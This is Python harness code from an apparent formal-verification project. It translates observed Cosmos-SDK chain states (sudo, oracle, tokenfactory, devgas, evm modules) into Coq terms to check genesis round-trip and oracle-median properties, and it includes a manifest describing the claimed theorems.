        "fee shares, inflation/epochs advanced, sudoers edited}; distinct = distinct input")
ASSUMPTIONS = [
    "x/auth and x/bank (cosmos-sdk) restore accounts and denom metadata from their own genesis sections; observed "
    "(accounts before = after is part of the checked predicate), not modelled",
    "keccak, FunToken ids, tf denom parsing, default bank metadata, devgas param validation/sanitising, bech32 parsing and "
    "re-encoding of account addresses are oracle values computed by the Go code and handed to the model as lookup tables "
    "(hypothesis funs_dg_ok of the devgas history theorems is checked on the tables of every case)",
    "oracle reward allocations are created through the keeper API (no message exists); wasm contracts are instantiated / "
    "re-administered through the wasm permission keepers (environment of the devgas handlers)",
]
TRUSTED = ["harness/c20/c20_dump_test.go: projection of raw stores / typed collections / export JSON to model-shaped records "
           "(keys -> ranks in store byte order, opaque payloads -> ids)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 3600}

MODS = ["sudo", "inflation", "epochs", "oracle", "tokenfactory", "devgas", "evm"]


def Z(n):
    return "(%d)%%Z" % int(n)


def L(xs):
    return "[" + "; ".join(xs) + "]"


def nl(xs):
    return L(str(int(x)) for x in xs)


def pl(xs):
    return L("(%d, %d)" % (a, b) for a, b in xs)


def optZ(x):
    return "Some %s" % Z(x[0]) if x else "None"


def epoch(idk, info):
    return ("{| ep_id := %d; ep_start := %s; ep_dur := %s; ep_cur := %s; ep_cstart := %s; ep_started := %s; ep_height := %s |}"
            % (idk, Z(info[0]), Z(info[1]), Z(info[2]), Z(info[3]), "true" if info[4] else "false", Z(info[5])))


def vote(v, body):
    return "{| v_voter := %d; v_body := %d |}" % (v, body)


def dg_coq(d):
    return "{| dg_params := %d; dg_shares := %s; dg_idx_dep := %s; dg_idx_wd := %s |}" % (
        d["params"], L("(%d, %s)" % (c, fshare(c, dep, wd)) for c, dep, wd, _ in d["shares"]), pl(d["idx_dep"]), pl(d["idx_wd"]))


def st_coq(s, md):
    su = s["sudo"]
    sudo = ("Some {| su_root := %d; su_contracts := %s |}" % (su["root"], nl(su["contracts"]))) if su["set"] else "None"
    i = s["infl"]
    infl = "{| in_params := %d; in_period := %s; in_skipped := %s |}" % (i["params"], optZ(i["period"]), optZ(i["skipped"]))
    eps = L("(%d, %s)" % (k, epoch(idk, info)) for k, idk, info in s["epochs"])
    o = s["oracle"]
    oracle = ("{| o_params := %d; o_whitelist := %s; o_rates := %s; o_feeders := %s; o_miss := %s; o_prevotes := %s; "
              "o_votes := %s; o_pairs := %s; o_rewards := %s; o_rewards_id := %s; o_snaps := %s |}") % (
        o["params"], nl(o["whitelist"]),
        L("(%d, {| r_rate := %d; r_created := %s; r_ts := %s |})" % (p, r, Z(c), Z(t)) for p, r, c, t in o["rates"]),
        pl(o["feeders"]), L("(%d, %s)" % (v, Z(n)) for v, n in o["miss"]),
        L("(%d, %s)" % (k, vote(v, b)) for k, v, b in o["prevotes"]),
        L("(%d, %s)" % (k, vote(v, b)) for k, v, b in o["votes"]),
        nl(o["pairs"]),
        L("(%s, {| rw_id := %s; rw_body := %d |})" % (Z(k), Z(i2), b) for k, i2, b in o["rewards"]),
        optZ(o["rewards_id"]),
        L("{| sn_pair := %d; sn_ts_key := %s; sn_pair_f := %d; sn_price := %d; sn_ts := %s |}" % (p, Z(tk), pf, pr, Z(ts))
          for p, tk, pf, pr, ts in o["snaps"]))
    t = s["tf"]
    tf = ("{| tf_params := %d; tf_denoms := %s; tf_creators := %s; tf_admins := %s; tf_idx := %s; tf_bankmd := %s |}" % (
        t["params"], L("(%d, (%d, %d))" % (d, c, sub) for d, c, sub in t["denoms"]), nl(t["creators"]),
        pl(t["admins"]), pl(t["idx"]), pl(md)))
    d = s["devgas"]
    dg = "{| dg_params := %d; dg_shares := %s; dg_idx_dep := %s; dg_idx_wd := %s |}" % (
        d["params"], L("(%d, %s)" % (c, fshare(c, dep, wd)) for c, dep, wd, _ in d["shares"]), pl(d["idx_dep"]), pl(d["idx_wd"]))
    e = s["evm"]
    ev = ("{| ev_params := %d; ev_code := %s; ev_storage := %s; ev_ft := %s; ev_idx_erc20 := %s; ev_idx_denom := %s |}" % (
        e["params"], pl(e["code"]), L("(%d, %s)" % (a, pl(sl)) for a, sl in e["storage"]),
        L("(%d, %s)" % (k, ftok(er, dn, b)) for k, er, dn, b in e["funtokens"]), pl(e["idx_erc20"]), pl(e["idx_denom"])))
    return ("{| a_sudo := %s; a_infl := %s; a_epochs := %s; a_oracle := %s; a_tf := %s; a_devgas := %s; a_evm := %s |}"
            % (sudo, infl, eps, oracle, tf, dg, ev))


def fshare(c, dep, wd):
    return "{| fs_contract := %d; fs_deployer := %d; fs_withdrawer := %d |}" % (c, dep, wd)


def ftok(er, dn, b):
    return "{| ft_erc20 := %d; ft_denom := %d; ft_body := %d |}" % (er, dn, b)


def gen_coq(g):
    su = g["sudo"]
    sudo = "{| su_root := %d; su_contracts := %s |}" % (su["root"], nl(su["contracts"]))
    i = g["infl"]
    infl = "{| ig_params := %d; ig_period := %s; ig_skipped := %s |}" % (i["params"], Z(i["period"]), Z(i["skipped"]))
    eps = L(epoch(k, info) for k, info in g["epochs"])
    o = g["oracle"]
    oracle = ("{| og_params := %d; og_whitelist := %s; og_rates := %s; og_feeders := %s; og_miss := %s; og_prevotes := %s; "
              "og_votes := %s; og_pairs := %s; og_rewards := %s |}") % (
        o["params"], nl(o["whitelist"]), pl(o["rates"]), pl(o["feeders"]),
        L("(%d, %s)" % (v, Z(n)) for v, n in o["miss"]),
        L(vote(v, b) for v, b in o["prevotes"]), L(vote(v, b) for v, b in o["votes"]), nl(o["pairs"]),
        L("{| rw_id := %s; rw_body := %d |}" % (Z(k), b) for k, b in o["rewards"]))
    t = g["tf"]
    tf = "{| tg_params := %d; tg_denoms := %s |}" % (t["params"], pl(t["denoms"]))
    d = g["devgas"]
    dg = "{| dgg_params := %d; dgg_shares := %s |}" % (d["params"], L(fshare(c, dep, wd) for c, dep, wd, _ in d["shares"]))
    e = g["evm"]
    ev = "{| eg_params := %d; eg_accounts := %s; eg_ft := %s |}" % (
        e["params"], L("{| ga_addr := %d; ga_code := %d; ga_storage := %s |}" % (a, c, pl(sl)) for a, c, _, sl in e["accounts"]),
        L(ftok(er, dn, b) for _, er, dn, b in e["funtokens"]))
    return ("{| g_sudo := %s; g_infl := %s; g_epochs := %s; g_oracle := %s; g_tf := %s; g_devgas := %s; g_evm := %s |}"
            % (sudo, infl, eps, oracle, tf, dg, ev))


def env_coq(env):
    return L("{| aa_addr := %d; aa_eth := %s; aa_hash := %d |}" % (a, "true" if e else "false", h) for a, e, h in env)


def funs_coq(o):
    hashes, ftids, san = {}, {}, {}
    for s in (o["s1"], o["s2"]):
        for h, c in s["evm"]["code"]:
            hashes[c] = h
        for k, er, dn, _ in s["evm"]["funtokens"]:
            ftids[(er, dn)] = k
    for g in (o["e1"], o["e2"]):
        for _, c, h, _ in g["evm"]["accounts"]:
            hashes[c] = h
        for k, er, dn, _ in g["evm"]["funtokens"]:
            ftids[(er, dn)] = k
    tb = o["tables"]
    dgp = tb.get("dgparams", [])
    san = {p: sn for p, _, _, sn in dgp}
    mem = lambda xs: "(fun k => existsb (Nat.eqb k) %s)" % nl(xs)
    dg = o.get("dg", {})
    tp = o["tables"]["tfparse"]
    return ("{| f_hash := tbl1 %s 4999; f_code_empty := fun c => Nat.eqb c %d; f_ftid := tbl2 %s 4999; "
            "f_tfparse := tblp %s; f_tfdefmd := tbl1 %s 0; f_dgsan := tbl1 %s 0; f_pairjson := tblid %s; "
            "f_addr_ok := %s; f_canon := tblid %s; f_dgp_ok := %s; f_dgp_enabled := %s; f_gov := %d; f_empty := %d |}") % (
        pl(sorted(hashes.items())), o["tables"].get("empty_code", 0),
        L("(%d, %d, %d)" % (a, b, k) for (a, b), k in sorted(ftids.items())),
        L("(%d, (%d, %d))" % (d, c, s) for d, c, s, _ in tp), pl([(d, m) for d, _, _, m in tp]), pl(sorted(san.items())), pl(o["tables"].get("pairjson", [])),
        mem(tb.get("addr_ok", [])), pl(tb.get("canon", [])), mem([p for p, ok, _, _ in dgp if ok]), mem([p for p, _, en, _ in dgp if en]),
        dg.get("gov", 0), dg.get("empty", 0))


def dg_hist_coq(dg):
    out = []
    for e in dg.get("hist", []):
        k = e[0]
        if k == "wasm":
            _, c, has, adm, cr = e
            out.append("(DWasm %d {| wi_admin := %s; wi_creator := %d |}, true)" % (c, ("Some %d" % adm) if has else "None", cr))
        elif k == "params":
            out.append("(DParams %s %d, %s)" % ("true" if e[1] else "false", e[2], "true" if e[4] else "false"))
        elif k == "cancel":
            out.append("(DCancel %d %d, %s)" % (e[1], e[2], "true" if e[4] else "false"))
        else:
            out.append("(%s %d %d %d, %s)" % ({"reg": "DRegister", "upd": "DUpdate"}[k], e[1], e[2], e[3], "true" if e[4] else "false"))
    return L(out)


def to_coq_case(rec):
    o = rec["obs"]
    probe = o["probe"] if o["probe"] else [[], []]
    pr = "(%s, %s)" % tuple(L("(%s, %d)" % (Z(k), b) for k, b in side) for side in probe)
    jeq = L("true" if o["jeq"].get(m, 0) else "false" for m in MODS)
    kv = lambda l: L("(%d, %d, %d, %d)" % tuple(e) for e in l)
    return ("{| k_import_ok := %s; k_h := %s; k_t := %s; k_F := %s; k_env1 := %s; k_env2 := %s; "
            "k_s1 := %s; k_e1 := %s; k_s2 := %s; k_e2 := %s; k_jeq := %s; k_kv1 := %s; k_kv2 := %s; "
            "k_q1 := %s; k_q2 := %s; k_probe := %s; k_dg0 := %s; k_dg_hist := %s |}") % (
        "true" if o["import_ok"] else "false", Z(o["h"]), Z(o["t"]), funs_coq(o), env_coq(o["env1"]), env_coq(o["env2"]),
        st_coq(o["s1"], o["md1"]), gen_coq(o["e1"]), st_coq(o["s2"], o["md2"]), gen_coq(o["e2"]), jeq, kv(o["kv1"]), kv(o["kv2"]),
        nl(o["q1"]), nl(o["q2"]), pr,
        dg_coq(o["s1"]["devgas"]) if o.get("dg", {}).get("gen", 0) > 0 else "(dg_genesis %d)" % o.get("dg", {}).get("params0", 0),
        dg_hist_coq(o.get("dg", {})))


def features(rec):
    o = rec["obs"]
    s, g = o["s1"], o["e1"]
    f = set()
    if any(sl for _, _, _, sl in g["evm"]["accounts"]):
        f.add("contract-storage")
    if g["evm"]["funtokens"]:
        f.add("funtokens")
    if g["tf"]["denoms"]:
        f.add("tf-denoms")
    if g["oracle"]["prevotes"] or g["oracle"]["votes"] or g["oracle"]["rewards"]:
        f.add("oracle-pending")
    if g["oracle"]["rates"] or g["oracle"]["miss"] or g["oracle"]["feeders"]:
        f.add("oracle-rates-miss-feeders")
    if g["devgas"]["shares"]:
        f.add("fee-shares")
    if g["infl"]["period"] != 0 or g["infl"]["skipped"] != 0 or any(info[2] > 1 for _, info in g["epochs"]):
        f.add("inflation-epochs-advanced")
    ops = {op["k"] for op in rec["input"]["ops"]}
    if ops & {"sudo_add", "sudo_rm", "sudo_root"}:
        f.add("sudoers-edited")
    # states that exercise the explicit exception list
    if len(s["evm"]["code"]) > len({c for _, c, _, _ in g["evm"]["accounts"]}):
        f.add("x:orphan-bytecode")
    exported = {a for a, _, _, _ in g["evm"]["accounts"]}
    if any(a not in exported for a, _ in s["evm"]["storage"]):
        f.add("x:codeless-storage")
    defmd = {t[0]: t[3] for t in o["tables"]["tfparse"]}
    if any(m != defmd.get(d) for d, m in o["md1"]):
        f.add("x:custom-bank-metadata")
    return f


def nontrivial(rec):
    return len([x for x in features(rec) if not x.startswith("x:")]) >= 3


def classify(rec):
    ks = ["ops=%d" % (len(rec["input"]["ops"]) // 5 * 5)]
    for op in rec["input"]["ops"]:
        ks.append("op:" + op["k"])
    for f in features(rec):
        ks.append("feature:" + f)
    g = rec["obs"]["e1"]
    for name, l in (("miss-counters", g["oracle"]["miss"]), ("exchange-rates", g["oracle"]["rates"]), ("prevotes", g["oracle"]["prevotes"]),
                    ("votes", g["oracle"]["votes"]), ("rewards", g["oracle"]["rewards"]), ("feeders", g["oracle"]["feeders"])):
        if l:
            ks.append("exported:" + name)
    for c in rec.get("strings", []):
        ks.append("mixed-case-string:" + c)
    for c in rec.get("devgas", []):
        ks.append("devgas-history:" + c)
    st = rec["obs"]["s1"]
    # many-to-one relations (several keys of a collection share one value)
    def shared(vals):
        vals = list(vals)
        return len(vals) != len(set(vals))
    for name, vals in (("feeder", (f for _, f in g["oracle"]["feeders"])), ("tf-admin", (a for _, a in g["tf"]["denoms"])),
                       ("tf-creator", (c for _, c, _ in st["tf"]["denoms"])),
                       ("fee-deployer", (d for _, d, _, _ in g["devgas"]["shares"])), ("fee-withdrawer", (w for _, _, w, _ in g["devgas"]["shares"])),
                       ("rate", (r for _, r in g["oracle"]["rates"])), ("miss-counter", (n for _, n in g["oracle"]["miss"])),
                       ("contract-code", (c for _, c, _, _ in g["evm"]["accounts"])),
                       ("storage-word", (w for _, _, _, sl in g["evm"]["accounts"] for _, w in sl)),
                       ("sudo-contract-is-root", [g["sudo"]["root"]] + list(set(g["sudo"]["contracts"])))):
        if shared(vals):
            ks.append("shared:" + name)
    if len(st["oracle"]["pairs"]) != len(st["oracle"]["whitelist"]) or set(st["oracle"]["pairs"]) != set(st["oracle"]["whitelist"]):
        ks.append("state:whitelist-edit-pending")
    gen = rec.get("gen", 0)
    ks.append("generation:%d" % (gen + 1))
    ks.append("import-initial-height:" + ["none(ctx 0)", "1(ctx 0)", "exported", "exported+1000"][rec.get("ih", 2)])
    if any(info[4] and info[5] == 0 for _, info in g["epochs"]):
        ks.append("state:started-epoch-at-height-0")
    if gen > 0:
        ks.append("state:exported-from-a-chain-started-from-an-export")
    if rec.get("sched"):
        ks.append("state:scheduled-epoch-not-started,import-time-%s-its-start" % rec["sched"])
    toggles = [op["a"] % 2 for op in rec["input"]["ops"] if op["k"] == "infl_toggle"]
    if g["infl"]["skipped"] > 0:
        ks.append("state:skipped-epochs-inflation-" + ("on" if toggles and toggles[-1] == 1 else "off"))
    ks.append("import:" + ("ok" if rec["obs"]["import_ok"] else "panic"))
    ks.append("rejected_ops=%d" % min(rec.get("failed_ops", 0), 9))
    return ks


def diffs(rec):
    """which parts of the round trip are not reproduced (python-side, for signatures/samples only)"""
    o = rec["obs"]
    if not o["import_ok"]:
        return ["import-panic"]
    out = []
    for m, k in (("sudo", "sudo"), ("inflation", "infl"), ("oracle", "oracle"), ("tokenfactory", "tf"), ("devgas", "devgas"), ("evm", "evm")):
        if o["e1"][k] != o["e2"][k] or not o["jeq"].get(m, 0):
            out.append("export:" + m)
    e1 = [[k, i[:5]] for k, i in o["e1"]["epochs"]]
    e2 = [[k, i[:5]] for k, i in o["e2"]["epochs"]]
    if e1 != e2 or any(i[5] != o["h"] for _, i in o["e2"]["epochs"]):
        out.append("export:epochs")
    for m, k in (("sudo", "sudo"), ("epochs", "epochs"), ("tokenfactory", "tf"), ("devgas", "devgas"), ("evm", "evm")):
        # an import that silently DROPS a module's state (swallowed InitGenesis error): the section comes back empty
        sec1, sec2 = o["e1"][k], o["e2"][k]
        n1 = len(sec1) if isinstance(sec1, list) else sum(len(v) for v in sec1.values() if isinstance(v, list))
        n2 = len(sec2) if isinstance(sec2, list) else sum(len(v) for v in sec2.values() if isinstance(v, list))
        if n1 > 0 and n2 == 0:
            out.append("section-dropped:" + m)
    s1, s2 = o["s1"], o["s2"]
    for mod in ("sudo", "tf", "devgas"):
        if s1[mod] != s2[mod]:
            out.append("state:" + mod)
    for f in ("params", "whitelist", "feeders", "miss", "prevotes", "votes", "pairs", "rewards"):
        if s1["oracle"][f] != s2["oracle"][f]:
            out.append("state:oracle." + f)
    peek = lambda x: x[0] if x else 1
    fresh = lambda s: all(k < peek(s["oracle"]["rewards_id"]) for k, _, _ in s["oracle"]["rewards"])
    if fresh(s1) and not fresh(s2):
        out.append("state:oracle.rewards_id-stale")
    if o["probe"] and any(x not in o["probe"][1] for x in o["probe"][0]):
        out.append("behaviour:pending-reward-overwritten")
    for f in ("params", "funtokens", "idx_erc20", "idx_denom"):
        if s1["evm"][f] != s2["evm"][f]:
            out.append("state:evm." + f)
    if o["md1"] != o["md2"]:
        out.append("state:tokenfactory.bank-metadata")
    if o["q1"] != o["q2"]:
        out.append("queries")
    if o["env1"] != o["env2"]:
        out.append("auth-accounts")
    may_differ = {(1, 1), (1, 10), (1, 9), (3, 1), (0, 1), (0, 2)}
    kv1 = {(a, b): (n, d) for a, b, n, d in o["kv1"]}
    kv2 = {(a, b): (n, d) for a, b, n, d in o["kv2"]}
    stores = ["evm", "oracle", "inflation", "epochs", "sudo", "tokenfactory", "devgas"]
    for k in sorted(set(kv1) | set(kv2)):
        if k not in may_differ and kv1.get(k) != kv2.get(k):
            out.append("raw-kv:%s/%d" % (stores[k[0]], k[1]))
    return out


def describe(rec):
    o = rec["obs"]
    return {"input": rec["input"], "generation": rec.get("gen", 0) + 1, "import_ok": o["import_ok"], "height": o["h"], "features": sorted(features(rec)),
            "not_reproduced": diffs(rec), "export1": o["e1"], "export2_epochs": o["e2"]["epochs"],
            "rejected_ops": rec.get("failed_ops", 0)}


def signature(rec):
    return {"kind": "roundtrip-not-reproduced", "parts": sorted(diffs(rec))}


def input_size(inp):
    return len(inp["ops"]) + 2 * len(inp.get("gens", [])) + sum(g.get("blocks", 0) for g in inp.get("gens", []))


def shrink_candidates(inp):
    ops = inp["ops"]
    out = []
    gens = inp.get("gens", [])
    for i in range(len(gens)):
        if len(gens) > 1:
            out.append(dict(inp, gens=gens[:i] + gens[i + 1:]))
        if gens[i].get("blocks", 0) > 0:
            out.append(dict(inp, gens=gens[:i] + [dict(gens[i], blocks=gens[i]["blocks"] - 1)] + gens[i + 1:]))
        if gens[i].get("long", 0) > 0:
            out.append(dict(inp, gens=gens[:i] + [dict(gens[i], long=0)] + gens[i + 1:]))
    n = len(ops)
    if n > 3:
        out.append(dict(inp, ops=ops[: n // 2]))
        out.append(dict(inp, ops=ops[n // 2:]))
    for i in range(n):
        out.append(dict(inp, ops=ops[:i] + ops[i + 1:]))
    return out


def model_search(chk):
    """The model's only tree-dependent parts are the two genesis formulas in current_cfg; the histories that
    expose them on the implementation are fixed and tiny, so the search replays those."""
    return [
        {"ops": [{"k": "or_alloc", "a": 3, "b": 2, "c": 0}, {"k": "or_alloc", "a": 5, "b": 3, "c": 0}], "dt": 10},
        {"ops": [{"k": "tf_create", "a": 0, "b": 0, "c": 0}, {"k": "tf_md", "a": 0, "b": 2, "c": 0}], "dt": 10},
        {"ops": [{"k": "infl_toggle", "a": 1, "b": 0, "c": 0}, {"k": "epoch", "a": 2, "b": 0, "c": 0},
                 {"k": "or_prevote", "a": 7, "b": 1, "c": 0}, {"k": "or_vote", "a": 3, "b": 0, "c": 0},
                 {"k": "fs_set", "a": 1, "b": 2, "c": 3}, {"k": "tf_create", "a": 1, "b": 1, "c": 0}, {"k": "tf_admin", "a": 0, "b": 3, "c": 0},
                 {"k": "deploy", "a": 0, "b": 0, "c": 0, "slots": [[1, 2]]}, {"k": "ftcoin", "a": 0, "b": 0, "c": 0}], "dt": 77},
        # the history of C20_devgas_update_removes_withdrawer_refuted (Coq witness dg_back_to_deployer)
        {"ops": [{"k": "wasm_new", "a": 1, "b": 0, "c": 0}, {"k": "fs_reg", "a": 0, "b": 0, "c": 2},
                 {"k": "fs_upd", "a": 0, "b": 0, "c": 5}], "dt": 10},
        {"ops": [{"k": "wasm_new", "a": 2, "b": 1, "c": 0}, {"k": "fs_reg", "a": 0, "b": 0, "c": 3, "d": 1},
                 {"k": "fs_upd", "a": 0, "b": 0, "c": 11, "d": 1}], "dt": 10},
    ]


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over executable models of ExportGenesis/InitGenesis of all seven custom modules "
                 "(sudo, inflation, epochs, oracle, tokenfactory, devgas, evm incl. code, storage, FunToken mappings and their "
                 "index key spaces): C20_app_roundtrip (composed over the product of modules, for every well-formed state, any "
                 "import height/time): the export initialises a fresh chain, a second export equals the first except that epoch "
                 "start heights are the import height, and the imported state equals the original on every persistent "
                 "collection outside an explicit exception list that is part of the statement (oracle CreatedBlock/timestamps "
                 "and price snapshots re-based, RewardsID re-derived but proved fresh, orphan bytecode, storage of code-less "
                 "accounts, unset sequences defaulting to 1); per-module theorems C20_<module>_roundtrip; for x/devgas the "
                 "REACHABLE-state statement: a model of the four registry message handlers (Register/Update/Cancel fee share, "
                 "UpdateParams over a table of wasm contracts) and C20_devgas_history_roundtrip / _from_genesis / "
                 "C20_app_roundtrip_after_devgas_history: after any history of these messages the export passes genesis "
                 "validation (FeeShare.Validate / Params.Validate are part of init_devgas) and InitGenesis restores the registry "
                 "exactly; refutations for the two pre-fix genesis formulas (stale RewardsID, token-factory bank metadata "
                 "reset) and for the variant rule 'MsgUpdateFeeShare removes a withdrawer equal to the deployer' "
                 "(C20_devgas_update_removes_withdrawer_refuted); ITERATED round trips: C20_iterated_roundtrip (any number of "
                 "generations, each imported at its own height >= 0 incl. 0: every export accepted, every imported state "
                 "well-formed again, n-th export = first export with epoch heights re-based), epochs init includes "
                 "GenesisState/EpochInfo.Validate and the module's swallowed error, C20_epochs_export_init_idempotent, and "
                 "C20_epochs_height_zero_invalid_refuted for the validator 'a counting epoch needs a positive start height'; "
                 "C20_epochs_init_keeps_start_time (any import time, started or not: start_time of every stored definition is kept) "
                 "and C20_epochs_start_time_rewrite_refuted for the widened AddEpochInfo condition. "
                 "Tie to /repo on every run: "
                 "(a) generated facts — every collections.New* call of the seven keepers, the GenesisState fields, which of them "
                 "InitGenesis reads / ExportGenesis fills, and the formulas the model is parameterised by (RewardsID, tf bank metadata, "
                 "asset.Pair JSON codec, the shape of every write to FeeShare.WithdrawerAddress in x/devgas, the set of rejecting "
                 "conditions of EpochInfo.Validate, whether x/epochs discards the InitGenesis error, the condition under which "
                 "AddEpochInfo rewrites StartTime) — with the "
                 "obligation that every persistent collection is carried by a used genesis field, derived, or on the exception "
                 "list; (b) correspondence — generated state-building histories on the real app (contracts, self-destructs, "
                 "FunTokens both ways, tf denoms/hand-over/metadata, sudoers, inflation, epochs, x/devgas registry message histories "
                 "on real wasm contracts (replayed by the handler model), pending oracle "
                 "votes/prevotes/rewards) -> ExportAppStateAndValidators -> fresh InitChain -> second export, where the model's "
                 "export/init must reproduce the dumped states and exports exactly, every dumped state must satisfy the "
                 "theorems' well-formedness hypothesis, and the proved-sound predicate Pb (exports, states, raw KV digests, "
                 "sampled eth_call/balance/sequence queries, a post-import reward allocation) is evaluated on the observed "
                 "round trip."),
        "design_ref": "DESIGN.md §5 C20",
    },
    "level_note": ("Theorems quantify over well-formed states; that reachable states are well-formed is PROVED for x/devgas "
                   "(invariant of the message handlers) and checked on every dumped implementation state for the other six "
                   "modules, not proved. One boundary of that hypothesis is reachable and replayed on the "
                   "code: on a chain whose own genesis had an empty oracle whitelist, between a sudo whitelist edit and the "
                   "period end, the second export gains the pairs (C20_oracle_pairs_boundary). x/auth and x/bank genesis "
                   "round trips are observed, not modelled; hashes/ids/parsing/bech32 validity are Go-computed lookup tables; reward "
                   "allocations are driven through the keeper API, wasm instantiation/admin changes through the wasm permission keepers. Trusted: Coq kernel + vm_compute, the go/ast "
                   "extractor harness/gen/c20, the dump/canonicalisation code harness/c20/c20_dump_test.go."),
    "technique": ("Coq proof (sorted-map extensionality, fold invariants) over executable genesis models + generated "
                  "keeper/genesis facts + differential export/import round trips on the real app"),
}
