"""C10 — oracle prices are the power-weighted median of a sufficient quorum."""
import copy
import json

ID = "C10"
HARNESS_TEST = "TestC10.*"
GEN = "c10"
COQ_MODEL = ["C10/Check.v", "C10/Cfg.v", "Gen/C10Facts.v"]
COQ_PROOF_DEPS = ["C10/Proofs.v"]
COQ_OBLIG = ["C10/Property.v", "Gen/C10Oblig.v"]
CASES_HEADER = "Require Import Nib.C10.Model Nib.C10.Spec Nib.C10.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("four kinds of cases. (4) msg-history: 3-9 blocks on ONE keeper in which EVERY vote enters through the real message "
        "server: MsgAggregateExchangeRatePrevote (sha256 commitment computed by the driver), MsgAggregateExchangeRateVote and "
        "MsgDelegateFeedConsent pass ValidateBasic and the msg server at the block's height, then oracle.EndBlocker; validator / "
        "feeder / operator / delegate fields are spelled lower-case (52 %), ALL-UPPER-CASE bech32 (45 %) or mixed-case (3 %, rejected); "
        "own account / delegated feeder / stranger senders, copy-cat and upper-case-hashed commitments, replayed reveals, "
        "non-whitelisted pairs, vote strings that name ONE pair more than once (7 % of the commitments: right after its first "
        "occurrence / with another pair in between / three times; same rate, another rate or an abstention), rates at the 315-bit "
        "limit, optional slash window; observed per block: accept flag of "
        "every message, staking answers read by the msg server, rates, events, Votes store by key, Prevotes store; the model "
        "predicts all of it, the checker Pb_mhist tracks the votes cast from the accept flags keyed by (VALIDATOR IDENTITY, pair) — "
        "one rate per validator and pair, so a validator's power counts once per pair and voters are distinct validators. non-trivial "
        "(msg-history) = has a period end with accepted votes. (3) params: generated parameter values (valid / invalid in one or several fields) are "
        "given to the real Params.Validate and to MsgEditOracleParams (sudo sender, full test app); the acceptance must "
        "equal Spec.params_valid, a rejected edit must leave the stored params unchanged. (1) single: one real oracle.EndBlocker call on the x/oracle keeper fixture after a generated staking situation "
        "(1-12 validators, powers 0/1/ties/huge, fractional tokens, unbonded late joiners, undelegated-after-bonding, "
        "jailed, MaxValidators cut-off), generated Params (Validate-accepted), whitelist, Votes store (positive / "
        "abstain / missing / strangers / non-whitelisted / duplicate tuples / huge rates) and pre-existing rates around "
        "the expiry boundary. (2) history: 3-10 steps on ONE keeper (fixed staking/params/whitelist): validators submit or "
        "overwrite aggregate votes and prevotes, then oracle.EndBlocker at the next vote-period end or next block; periods "
        "with full / sub-quorum / no participation follow each other; observed per step: rates, events, Votes store, "
        "Prevotes store. non-trivial (history) = has a period end with votes (with or without quorum); non-trivial (single) = a period end where at least one pair has votes of eligible validators "
        "(threshold + MinVoters + median logic runs) or a stored rate is at its expiry boundary; distinct = distinct input")
ASSUMPTIONS = [
    "staking state (power-store order, bonded flags, consensus power, total bonded tokens) is read back through the "
    "staking keeper API before the call and handed to the model as input; the staking module itself is not modelled",
    "domain of the property predicate = parameters accepted by Params.Validate (incl. VoteThreshold <= 1 since 662a06f), "
    "bonded power fitting int64, rates being LegacyDec values; no further restriction since 48f939b / 66a0ce3",
    "voting powers are non-negative and their sum fits int64",
    "message level: the commit hash is symbolic (sha256 injective on salt:rates-string:validator-string), strings are ids; "
    "the staking answers 'validator exists / is bonded' at delivery are inputs; error classes of refused messages are C11's subject",
    "votes that enter through genesis import (InitGenesis keeps the Voter string of the file) are outside the property's "
    "quantifier (coordinator decision) and are not driven; see README 'Observations outside the property'",
]
TRUSTED = ["harness/gen/c10/main.go normal forms (stage sequence, guards, formulas) — prints terms, never verdicts",
           "coq/Lib/Dec.v (LegacyDec arithmetic on raw integers, validated against cosmossdk.io/math)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}


def _z(s):
    return "(%s)%%Z" % int(s)


def _b(x):
    return "true" if x else "false"


def _state(inp, obs):
    pre = obs["pre"]
    vals = "[%s]" % "; ".join("mkVal %d%%nat %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
    votes = "[%s]" % "; ".join(
        "mkAVote %d%%nat [%s]" % (v["voter"], "; ".join("(%d%%nat, %s)" % (t["p"], _z(t["r"])) for t in v["t"]))
        for v in inp["votes"])
    rates = "[%s]" % "; ".join("mkRate %d%%nat %s %s" % (r["p"], _z(r["r"]), _z(r["c"])) for r in inp["rates"])
    wl = "[%s]" % "; ".join("%d%%nat" % w for w in inp["wl"])
    return "(mkState %s %d%%nat %s %s %s %s %s)" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]), wl, votes, rates)


def _is_hist(rec_or_inp):
    inp = rec_or_inp.get("input", rec_or_inp)
    return inp.get("kind") == "hist"


def _votes(vs):
    return "[%s]" % "; ".join(
        "mkAVote %d%%nat [%s]" % (v["voter"], "; ".join("(%d%%nat, %s)" % (t["p"], _z(t["r"])) for t in v["t"]))
        for v in vs or [])


def _rates(rs):
    return "[%s]" % "; ".join("mkRate %d%%nat %s %s" % (r["p"], _z(r["r"]), _z(r["c"])) for r in rs or [])


def _hist_case(rec):
    inp, obs = rec["input"], rec["obs"]
    p = inp["params"]
    params = "(mkParams %s %s %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["exp"]), _z(p["band"]))
    def _env(pre):
        vals = "[%s]" % "; ".join("mkVal %d%%nat %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
        return "(mkHEnv %s %d%%nat %s %s [%s])" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]),
                                                 "; ".join("%d%%nat" % w for w in inp["wl"]))
    steps = []
    for st, so in zip(inp["steps"], obs["steps"]):
        x = "(mkHStep %s [%s] %s)" % (_votes(st["votes"]),
                                      "; ".join("(%d%%nat, %s)" % (pv["voter"], _z(pv["submit"])) for pv in st["prevotes"] or []),
                                      _z(so["h"]))
        o = "(mkHObs %s %s [%s] %s [%s])" % (
            _b(so["panic"]), _rates(so["rates"]),
            "; ".join("(%d%%nat, %s)" % (e["p"], _z(e["r"])) for e in so["events"] or []),
            _votes(so["votes"]),
            "; ".join("(%d%%nat, %s)" % (pv["voter"], _z(pv["submit"])) for pv in so["prevotes"] or []))
        steps.append("(%s, %s, %s)" % (_env(so.get("pre") or obs["pre"]), x, o))
    return "(CHist %s %s [%s])" % (params, _rates(inp["rates"]), ";\n    ".join(steps))


def _hist_flags(rec):
    inp, obs = rec["input"], rec["obs"]
    vp = inp["params"]["vp"]
    fl = set()
    prev_noquorum_with_votes = False
    pending = False
